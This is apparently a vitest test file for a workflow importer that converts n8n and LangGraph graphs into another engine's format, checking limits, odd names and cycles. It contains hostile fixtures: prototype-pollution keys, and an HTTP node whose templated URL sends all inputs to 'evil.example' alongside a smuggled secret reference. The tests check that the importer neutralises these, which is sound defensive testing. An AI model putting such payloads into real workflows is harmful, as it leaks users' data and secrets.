import { describe, expect, test } from 'vitest';
import { validateWorkflow } from '../workflow/validate-workflow.ts';
import { importWorkflow } from './import-workflow.ts';

const NOOP = 'n8n-nodes-base.noOp';

describe('what somebody else made', () => {
  test.each([
    ['nothing', ''],
    ['a number', '7'],
    ['null', 'null'],
    ['a list', '[]'],
    ['a list of nothing', '[null, 3]'],
    ['no nodes', '{"nodes": []}'],
    ['nodes that are none', '{"nodes": [1, null, "x"], "connections": {}}'.replace('[1, null, "x"]', '[]')],
    ['half of a JSON', '{"nodes": ['],
    ['words', 'Ship the thing on Friday.'],
    ['code without agents', 'export const x = 1;'],
    ['something else', '{"nodes": [{"id": 1}], "edges": "none"}'],
  ])('that is %s is refused with a reason', (_what, source) => {
    expect(importWorkflow(source)).toEqual({ outcome: 'unreadable', why: expect.stringMatching(/\w{2}/) });
  });

  test('is read up to a size and a depth, and no further', () => {
    expect(importWorkflow(`{"nodes":[],"x":"${'a'.repeat(1_048_576)}"}`)).toMatchObject({
      why: expect.stringContaining('characters'),
    });
    const deep = `{"nodes":${'['.repeat(5000)}${']'.repeat(5000)},"connections":{}}`;
    expect(importWorkflow(deep)).toMatchObject({ outcome: 'unreadable', why: expect.stringContaining('deeper') });
    expect(importWorkflow({ nodes: Array.from({ length: 250_000 }, () => 1), connections: {} })).toMatchObject({
      outcome: 'unreadable',
    });
  });

  test('cannot reach a prototype by any of its names', () => {
    const source = `{
      "name": "__proto__", "__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}},
      "nodes": [
        {"name": "__proto__", "type": "${NOOP}"},
        {"name": "constructor", "type": "n8n-nodes-base.set",
         "parameters": {"values": {"__proto__": [{"name": "a", "value": 1}], "string": [{"name": "__proto__", "value": "x"}]}}},
        {"name": "toString", "type": "constructor"},
        {"name": "hasOwnProperty", "type": "n8n-nodes-base.if",
         "parameters": {"conditions": {"conditions": [{"leftValue": "1", "operator": {"type": "string", "operation": "constructor"}}]}}}
      ],
      "connections": {"__proto__": {"main": [[{"node": "constructor"}]]}, "constructor": {"main": [[{"node": "toString"}]]}}
    }`;
    const result = importWorkflow(source);
    if (result.outcome !== 'imported') throw new Error(result.why);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    const ids = (result.document['nodes'] as { id: string }[]).map(({ id }) => id);
    expect(ids).toEqual(['proto', 'constructor_node', 'tostring', 'hasownproperty']);
    expect(validateWorkflow(result.document).problems.filter(({ severity }) => severity === 'error')).toEqual([]);
  });

  test('gets ids that can be said, whatever the names are', () => {
    const names = [
      'Ünïcode ÄÖ',
      '数据处理',
      '🚀🚀',
      '1st',
      'in',
      'a-b',
      'a b',
      'a_b_2',
      'a/b',
      '\u202Eevil\u0000',
      '',
      'x'.repeat(5000),
    ];
    const result = importWorkflow({
      nodes: names.map((name, index) => ({ id: `n${index}`, name, type: NOOP })),
      connections: {},
    });
    if (result.outcome !== 'imported') throw new Error(result.why);
    const nodes = result.document['nodes'] as { id: string; name: string }[];
    expect(new Set(nodes.map(({ id }) => id)).size).toBe(names.length);
    expect(nodes.slice(0, 9).map(({ id }) => id)).toEqual([
      'unicode_ao',
      'node',
      'node_2',
      'n_1st',
      'in_node',
      'a_b',
      'a_b_2',
      'a_b_2_2',
      'a_b_3',
    ]);
    expect(validateWorkflow(result.document).valid).toBe(true);
  });

  test('may have twice the same name, edges to nowhere, and circles', () => {
    const result = importWorkflow({
      nodes: ['a', 'b', 'a'].map((name) => ({ name, type: NOOP })),
      connections: {
        a: { main: [[{ node: 'b' }, { node: 'gone' }, null, 7]] },
        b: { main: [[{ node: 'a' }, { node: 'b' }]] },
        nobody: { main: [[{ node: 'a' }]] },
      },
    });
    if (result.outcome !== 'imported') throw new Error(result.why);
    expect(result.document['edges']).toEqual([
      { from: 'a', to: 'b' },
      { from: 'b', to: 'a', max: 10 },
      { from: 'b', to: 'b', max: 10 },
    ]);
    expect(result.report.unmapped).toMatchObject([{ path: '/nodes/2', why: expect.stringContaining('same name') }]);
    expect(validateWorkflow(result.document).valid).toBe(true);
  });

  test('may have 5000 nodes in one line, all of one name or each with its own', () => {
    const count = 5000;
    const name = (index: number) => `step ${index}`;
    const chain = {
      nodes: Array.from({ length: count }, (_, index) => ({
        name: name(index),
        type: index % 2 === 0 ? NOOP : 'n8n-nodes-base.code',
      })),
      connections: Object.fromEntries(
        Array.from({ length: count - 1 }, (_, index) => [name(index), { main: [[{ node: name(index + 1) }]] }]),
      ),
    };
    const result = importWorkflow(chain);
    if (result.outcome !== 'imported') throw new Error(result.why);
    expect(result.document['nodes']).toHaveLength(count);
    expect(result.document['edges']).toHaveLength(count - 1);
    const drawn = importWorkflow({
      nodes: Array.from({ length: count }, (_, index) => ({
        id: String(index),
        type: 'runnable',
        data: { name: 'same' },
      })),
      edges: Array.from({ length: count }, (_, index) => ({
        source: String(index),
        target: String((index + 1) % count),
      })),
    });
    if (drawn.outcome !== 'imported') throw new Error(drawn.why);
    expect(drawn.format).toBe('langgraph');
    expect(new Set((drawn.document['nodes'] as { id: string }[]).map(({ id }) => id)).size).toBe(count);
  });

  test('says nothing that this engine would take for a template or a secret', () => {
    const result = importWorkflow({
      nodes: [
        { name: '{{ execution.id }}', type: 'x' },
        {
          name: 'Call',
          type: 'n8n-nodes-base.httpRequest',
          parameters: {
            url: 'https://evil.example/{{ inputs.all }}',
            headerParameters: { parameters: [{ name: 'X', value: 'secret:PRODUCTION' }] },
          },
        },
      ],
      connections: {},
    });
    if (result.outcome !== 'imported') throw new Error(result.why);
    const [named, call] = result.document['nodes'] as { config: Record<string, unknown> }[];
    expect(named?.config['title']).toBe("Replace: {{ '{{' }} execution.id }}");
    expect(call?.config).toMatchObject({
      url: "https://evil.example/{{ '{{' }} inputs.all }}",
      headers: { X: "{{ 'secret:' }}PRODUCTION" },
    });
    expect(validateWorkflow(result.document).valid).toBe(true);
  });

  test('keeps a document of this engine as it is', () => {
    const document = { name: 'Own', nodes: [{ id: 'a', type: 'condition' }] };
    expect(importWorkflow(document)).toMatchObject({ format: 'pointsman', document, report: { unmapped: [] } });
    expect(importWorkflow('pointsman: 1\nnodes: [{ id: a, type: condition }]', { name: 'New' })).toMatchObject({
      format: 'pointsman',
      document: { name: 'New', nodes: [{ id: 'a' }] },
    });
  });

  test('is found within one more layer, and of several the first is taken', () => {
    const inner = { nodes: [{ name: 'a', type: NOOP }], connections: {} };
    expect(importWorkflow({ id: 3, name: 'Outer', workflow: inner })).toMatchObject({
      format: 'n8n',
      document: { name: 'Outer' },
    });
    expect(importWorkflow([inner, inner])).toMatchObject({
      report: { notes: [expect.stringContaining('2 workflows')] },
    });
  });
});
